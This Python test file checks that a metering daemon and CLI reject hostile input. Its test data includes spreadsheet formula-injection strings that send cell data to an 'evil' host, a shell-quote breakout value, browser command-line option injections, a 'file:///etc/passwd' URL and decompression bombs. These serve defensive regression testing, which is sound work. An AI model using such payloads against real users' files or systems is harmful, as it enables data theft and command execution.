"""Daemon and CLI defects an adversarial pass found in what landed after issue 10.

Each test failed before its fix.
"""

from __future__ import annotations

import functools
import re
import subprocess
from pathlib import Path

import pytest

from hm_agent.budgets import BudgetConfigError, parse_webhooks
from hm_agent.config import ConfigError, parse_config
from tests.support.daemon import run_cli


@pytest.fixture
def home(tmp_path: Path) -> Path:
    home = tmp_path / "home"
    home.mkdir(mode=0o700)
    return home


@pytest.mark.parametrize("command", [("budget", "list"), ("doctor",), ("env",)])
def test_a_deeply_nested_config_toml_is_one_line_not_a_recursion_traceback(home: Path, command: tuple[str, ...]) -> None:
    (home / "config.toml").write_text("a = " + "[" * 5000 + "]" * 5000 + "\n")
    done = run_cli(home, *command)
    out = done.stdout + done.stderr
    assert "Traceback" not in out and "RecursionError" not in out
    assert "config.toml: arrays or tables nested too deeply" in out


def test_a_listen_port_of_unicode_digits_names_the_line(tmp_path: Path) -> None:
    # "²".isdigit() is True and int("²") a ValueError: the message had no file, line or fix.
    with pytest.raises(ConfigError, match=r"config.toml:2: metrics.listen must be a loopback address"):
        parse_config('[metrics]\nlisten = "127.0.0.1:\u00b2"\n', tmp_path / "config.toml")


def test_a_webhook_url_with_a_trailing_newline_is_refused() -> None:
    # re.match with "$" accepted "https://x/\n"; the POST then failed on every alert.
    with pytest.raises(BudgetConfigError, match="url must be an http"):
        parse_webhooks({"webhooks": [{"url": "https://hooks.example.com/x\n"}]}, "config.toml:1")


def test_report_csv_and_focus_never_hand_a_spreadsheet_a_formula(home: Path) -> None:
    # A model name is the upstream's and a project the caller's X-Halton-Project header:
    # "=HYPERLINK(...)" in a CSV cell runs when the file is opened in a spreadsheet.
    import csv
    import io

    from tests.test_cli_hostile import _row, _seed

    _seed(home, _row('=HYPERLINK("http://evil/?"&A1)', "api.openai.com", "0.01"),
          _row("+cmd|calc", "api.openai.com", "0.01"), _row("@SUM(1)", "-host", "0.01"))
    for args in (("report", "--csv"), ("report", "--csv", "--by", "host"), ("report", "--format", "focus")):
        done = run_cli(home, *args)
        assert done.returncode == 0, done.stderr
        cells = [cell for line in csv.reader(io.StringIO(done.stdout)) for cell in line]
        assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and c[1:2].isalpha())], args
        assert any(c.startswith("'=HYPERLINK") or c.startswith("'-host") for c in cells)


def formula_cells(text: str) -> list[str]:
    """Cells of a CSV a spreadsheet would run: split at commas as a CSV, and at every ';'
    quoted or not (Excel where ';' is the list separator), after leading spaces and a quote."""
    import csv
    import io

    cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
    cells += [piece for line in text.splitlines() for piece in line.split(";")[1:]]
    return [c for c in cells if c.lstrip(" ").lstrip('"').lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r")]


HOSTILE_NAMES = ("x;=HYPERLINK(\"http://evil/?\"&A1)", " =1+1", "a, -2+3", "y; @SUM(1)", "=cmd|' /C calc'!A0")


def test_report_csv_and_focus_never_hand_a_spreadsheet_a_formula_after_a_separator_or_a_space(home: Path) -> None:
    # Only a leading = + - @ was escaped: Excel with ';' as its list separator splits a
    # comma-separated file at every ';', so "x;=HYPERLINK(…)" made a formula cell there.
    from tests.test_cli_hostile import _row, _seed

    _seed(home, *[_row(name, "api.openai.com", "0.01") for name in HOSTILE_NAMES])
    for args in (("report", "--csv"), ("report", "--format", "focus")):
        done = run_cli(home, *args)
        assert done.returncode == 0, done.stderr
        assert formula_cells(done.stdout) == [], args
        assert "x;'=HYPERLINK" in done.stdout


def test_a_websocket_upstream_that_never_finishes_a_response_holds_bounded_state() -> None:
    # Every response.created was kept until its response.done: an upstream sending only
    # "created" events (with megabyte ids) grew the daemon without limit.
    import json

    from hm_agent.capture.websocket import MAX_OPEN, WsSession

    session = WsSession("realtime", "openai", "api.openai.com", "/v1/realtime", "gpt-realtime")
    rows = []
    for n in range(5000):
        event = {"type": "response.created", "response": {"id": f"resp_{n}_" + "x" * 10_000}}
        rows += session.server_message(json.dumps(event).encode(), float(n))
    assert len(session.open) <= MAX_OPEN
    assert all(len(rid) <= 200 for rid in session.open)
    rows += session.close()
    assert len(rows) == 5000  # each one is still a row: cut short (incomplete), never lost
    assert all("incomplete" in usage.flags for usage, _response in rows)


@pytest.mark.parametrize("args", [
    ("--since", "99999999999d"),  # timedelta: OverflowError
    ("--since", "3660000d"),  # before year 1: OverflowError
    ("--from", "0001-01-01", "--to", "0001-01-01"),  # the previous period: OverflowError
])
def test_report_ranges_past_the_calendar_are_one_line_not_a_traceback(home: Path, args: tuple[str, ...]) -> None:
    done = run_cli(home, "report", *args)
    out = done.stdout + done.stderr
    assert "Traceback" not in out and "OverflowError" not in out
    assert done.returncode != 0 and out.strip().count("\n") == 0
    assert "--since is at most" in out or "--to must be 1970-01-01 or later" in out


def test_a_webhook_url_with_a_password_is_logged_by_its_host_only() -> None:
    # _safe_url kept the netloc, user:password@ included, in the log and in `status`.
    from hm_agent.alerts import _safe_url

    assert _safe_url("https://bot:s3cret@hooks.example.com:8443/services/T/B/s3cret") == "https://hooks.example.com:8443/…"
    assert _safe_url("http://[::1]:9/x") == "http://[::1]:9/…"


def test_a_webhook_answering_something_not_http_is_a_failed_post() -> None:
    # BadStatusLine escaped post_json: the retries and the other webhooks of the alert were skipped.
    from hm_agent.alerts import post_json
    from tests.support.receiver import not_http

    with not_http() as url:
        assert post_json(url, {"text": "x"}) == 0


def _fifo(path: Path) -> None:
    import os

    os.mkfifo(path, 0o600)


def _dev_zero(path: Path) -> None:
    path.symlink_to("/dev/zero")


def _two_mib(path: Path) -> None:
    path.write_bytes(b"# " + b"x" * (2 * 1024 * 1024) + b"\n")
    path.chmod(0o600)


@pytest.mark.parametrize("plant", [_fifo, _dev_zero, _two_mib], ids=["fifo", "dev-zero", "2-MiB"])
@pytest.mark.parametrize("command", [("status",), ("start",)])
def test_a_config_toml_that_is_a_fifo_or_endless_is_one_line_not_a_hang(home: Path, plant: object,
                                                                       command: tuple[str, ...]) -> None:
    # read_text() on a FIFO waited for a writer for good, and on /dev/zero read until memory ran out.
    assert callable(plant)
    plant(home / "config.toml")
    done = run_cli(home, *command, timeout=60)
    assert done.returncode != 0
    assert f"cannot read {home / 'config.toml'}" in done.stdout + done.stderr
    assert "Traceback" not in done.stderr


def test_home_files_are_read_bounded_and_a_symlinked_config_still_works(tmp_path: Path) -> None:
    from hm_agent.home import read_regular

    real = tmp_path / "dotfiles-config.toml"
    real.write_text("[proxy]\n")
    link = tmp_path / "config.toml"
    link.symlink_to(real)
    assert read_regular(link) == b"[proxy]\n"
    _fifo(tmp_path / "fifo")
    for bad, why in ((tmp_path / "fifo", "not a regular file"), (tmp_path, "not a regular file")):
        with pytest.raises(OSError, match=why):
            read_regular(bad)
    with pytest.raises(OSError, match="more than the 4 "):
        read_regular(real, 4)
    with pytest.raises(FileNotFoundError):
        read_regular(tmp_path / "missing")


@functools.cache
def _bombs(mib: int = 256) -> dict[str, bytes]:
    """``mib`` MiB of zeros, compressed (256: gzip ~255 KiB, zstd ~8 KiB, brotli 421 bytes)."""
    import zlib

    import brotli
    import zstandard

    zeros = b"\0" * (mib * 1024 * 1024)
    gz = zlib.compressobj(9, zlib.DEFLATED, 31)
    return {"gzip": gz.compress(zeros) + gz.flush(), "zstd": zstandard.ZstdCompressor(level=19).compress(zeros),
            "br": brotli.compress(zeros, quality=11)}


@pytest.mark.slow
def test_a_compressed_bomb_is_refused_by_the_decoders_within_bounded_memory() -> None:
    # Each decoder inflated a whole network chunk at once: 421 bytes of brotli or 8 KiB of
    # zstd became 256 MiB in one call, on the proxy thread (and bodies decoded 8 MiB at once).
    import json
    import tracemalloc
    import zlib

    import brotli
    import zstandard

    from hm_agent.capture import decoding
    from hm_agent.capture.decoding import DecodeError, decoder_for

    for encoding, bomb in _bombs().items():
        decoder = decoder_for(encoding)
        tracemalloc.start()
        with pytest.raises(DecodeError, match="inflates past"):
            for at in range(0, len(bomb), 65536):
                decoder.decode(bomb[at:at + 65536])
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        assert peak < 2 * decoding.FLOOR + 64 * 1024 * 1024, (encoding, peak)  # the output was 256 MiB
    doc = json.dumps({"choices": [{"text": "x" * 200_000}], "usage": {"prompt_tokens": 3}}).encode()
    for encoding, packed in (("gzip", zlib.compress(doc, wbits=31)), ("zstd", zstandard.ZstdCompressor().compress(doc)),
                             ("br", brotli.compress(doc))):
        decoder = decoder_for(encoding)
        assert b"".join(decoder.decode(packed[at:at + 1000]) for at in range(0, len(packed), 1000)) == doc


@pytest.mark.slow
def test_an_upstream_answering_compressed_bombs_gets_its_calls_proxied_and_flagged(tmp_path: Path) -> None:
    # The daemon inflated the answer to read its usage: one brotli answer of under 1 KiB
    # inflated to 1 GiB on the proxy thread (several at once, and the daemon is killed).
    import contextlib
    import ssl
    import threading
    import time
    from http.server import BaseHTTPRequestHandler

    import httpx

    from tests.support.daemon import daemon_metering
    from tests.support.tls import serve_tls

    bombs = _bombs()

    class Bomber(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, *args: object) -> None:
            pass

        def do_POST(self) -> None:  # noqa: N802
            self.rfile.read(int(self.headers.get("content-length") or 0))
            encoding = self.path.rsplit("=", 1)[-1]
            body = bombs[encoding]
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Encoding", encoding)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    @contextlib.contextmanager
    def bomber(ca: object) -> object:
        serving = serve_tls(ca, Bomber, name="bomber")  # type: ignore[arg-type]
        try:
            yield serving
        finally:
            serving.stop()

    with daemon_metering(tmp_path, bomber) as (daemon, upstream):
        ctx = ssl.create_default_context(cafile=str(daemon.ca_cert_path))
        answers: dict[str, int] = {}

        def call(encoding: str) -> None:
            with httpx.Client(proxy=daemon.proxy_url, verify=ctx, timeout=60,
                              headers={"Accept-Encoding": "identity"}) as client:
                with client.stream("POST", f"https://localhost:{upstream.port}/v1/chat/completions?encoding={encoding}",
                                   json={"model": "gpt-4o-mini", "messages": []}) as answer:
                    answers[encoding] = sum(len(chunk) for chunk in answer.iter_raw())

        threads = [threading.Thread(target=call, args=(e,)) for e in bombs for _ in range(2)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(120)
        assert answers == {e: len(b) for e, b in bombs.items()}  # passed through untouched
        deadline = time.monotonic() + 20
        while len(daemon.rows()) < 6 and time.monotonic() < deadline:
            time.sleep(0.1)
        rows = daemon.rows()
        assert len(rows) == 6 and all("unparsed" in (r["flags"] or "") for r in rows), rows
        assert daemon.status()["daemon"]["running"] is True
        peak_mib = int(re.search(r"VmHWM:\s+(\d+) kB", Path(f"/proc/{daemon.pid}/status").read_text())[1]) // 1024
        print(f"daemon peak RSS {peak_mib} MiB")
        assert peak_mib < 450  # the bombs inflate to 256 MiB each; before, one call held it all (and a copy)


@pytest.mark.slow
def test_big_bodies_are_packed_into_uploads_the_backend_takes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # 16 bodies a time with no byte bound: 16 x 256 KiB a side (the default body_max_kib), a
    # CJK prompt escaped to \\uXXXX, or one 4 MiB body were 413 on every try, and being the
    # oldest pending they held up every later body for good.
    import json

    from cryptography.fernet import Fernet

    from hm_agent.bodysync import pack
    from tests.support.cloudserver import batch_body, running_cloud, sample_row

    monkeypatch.setenv("HALTON_METER_CLOUD_MASTER_KEY", Fernet.generate_key().decode())
    with running_cloud(tmp_path) as cloud:
        cloud.create_user("owner@example.com", "correct-horse-1", "acme")
        owner = cloud.login_session("owner@example.com", "correct-horse-1")
        csrf = cloud.csrf(owner, "/acme/settings/retention")
        assert owner.post("/acme/settings/retention", data={"csrf_token": csrf, "action": "accept_bodies"}
                          ).status_code == 303
        token = cloud.pair("owner@example.com", "correct-horse-1", "acme")["token"]
        device = cloud.client(headers={"Authorization": f"Bearer {token}"})
        rows = [sample_row() for _ in range(18)]
        assert device.post("/v1/requests/batch", json=batch_body(rows)).status_code == 200
        wide = "漢字" * (128 * 1024)  # 256 Ki characters, 768 KiB of UTF-8
        docs = [(r["id"], {"request": wide, "response": wide, "truncated": False}) for r in rows[:17]]
        docs.append((rows[17]["id"], {"request": "x" * (4 * 1024 * 1024), "response": "y" * (4 * 1024 * 1024),
                                      "truncated": False}))
        stored, uploads, cut = 0, 0, []
        while docs and uploads < 40:
            items = pack(docs)
            cut += [i["id"] for i in items if i["truncated"]]
            answer = device.post("/v1/requests/bodies", content=json.dumps({"bodies": items}, ensure_ascii=False),
                                 headers={"Content-Type": "application/json"})
            assert answer.status_code == 200, answer.text
            stored += answer.json()["stored"]
            docs = docs[len(items):]
            uploads += 1
        assert stored == 18 and not docs
        assert cut == [rows[17]["id"]]  # the 4 MiB one went too, cut and flagged truncated


def _fish_single_quoted(text: str) -> tuple[str, str]:
    """fish's reading of a single-quoted word at the start of ``text``: (value, rest).
    Inside '…' only \\\\ and \\' are escapes (fish documentation, "Quotes")."""
    assert text[0] == "'"
    out, i = [], 1
    while text[i] != "'":
        if text[i] == "\\" and text[i + 1] in "\\'":
            i += 1
        out.append(text[i])
        i += 1
    return "".join(out), text[i + 1:]


@pytest.mark.parametrize("value", ["C:\\certs\\", "it's", "a\\'; echo pwned; echo '", "plain"])
def test_env_for_fish_quotes_backslashes_and_quotes(value: str) -> None:
    # POSIX quoting in fish: 'C:\certs\' left the quote open (\' is an escape there), so the
    # rest of the output ran as fish commands.
    from hm_cli.envcmd import format_env

    line = format_env({"SSL_CERT_FILE": value}, "fish")
    assert line.startswith("set -gx SSL_CERT_FILE ")
    parsed, rest = _fish_single_quoted(line[len("set -gx SSL_CERT_FILE "):])
    assert parsed == value and rest == ";"


@pytest.mark.parametrize("url", ["--gpu-launcher=sh -c 'touch /tmp/pwned'", "file:///etc/passwd",
                                 "javascript:alert(1)", "smb://evil/share", "http://", " http://x/",
                                 "http://x/\nsecond", "ms-msdt:/id PCWDiagnostic"])
def test_a_pairing_url_from_the_backend_is_opened_only_when_it_is_plain_http(url: str) -> None:
    # cloud connect opened the backend's verification_uri_complete with webbrowser: a hostile
    # backend's "--gpu-launcher=…" became an option of the browser's command line.
    from hm_cli.cloud import browsable

    assert not browsable(url)
    assert browsable("https://meter.example.com/connect?code=ABCD-EFGH")
    assert browsable("http://127.0.0.1:8787/connect?code=ABCD-EFGH")


@pytest.mark.slow
def test_cloud_connect_never_hands_a_hostile_backends_url_to_the_browser(tmp_path: Path) -> None:
    # The same, end to end: a backend answering a pairing with an option for a URL, on a
    # desktop ($DISPLAY set). The browser ($BROWSER, a recorder here) must not be started.
    import stat as stat_mod
    import time

    from tests.support.apiserver import Reply, error, running_server
    from tests.support.daemon import daemon_env, running_daemon

    started_browser = tmp_path / "browser-argv"
    recorder = tmp_path / "browser.sh"
    recorder.write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" >> {started_browser}\n')
    recorder.chmod(recorder.stat().st_mode | stat_mod.S_IXUSR)
    hostile = "--renderer-cmd-prefix=touch /tmp/pwned"

    def answer(seen: object) -> Reply:
        path = getattr(seen, "path", "")
        if path.startswith("/v1/pairing/start"):
            return Reply(200, {"device_code": "d" * 43, "user_code": "ABCD-EFGH", "verification_uri": hostile,
                               "verification_uri_complete": hostile, "expires_in": 600, "interval": 1})
        if path.startswith("/v1/pairing/poll"):  # after a while: the browser thread has had its chance
            return Reply(400, {"error": "access_denied", "detail": "denied"}, delay=3.0)
        return error(404, "not_found")

    with running_server() as backend:
        backend.handler = answer
        with running_daemon(tmp_path / "home") as daemon:
            env = {**daemon_env(daemon.home), "DISPLAY": ":99", "BROWSER": f"{recorder} %s"}
            done = subprocess.run(["halton-meter", "cloud", "connect", "--base-url", backend.url], env=env,
                                  capture_output=True, text=True, timeout=120)
            time.sleep(1.0)  # the browser is started from a thread
    assert not started_browser.exists(), started_browser.read_text()
    assert "not opening it" in done.stdout, done.stdout + done.stderr
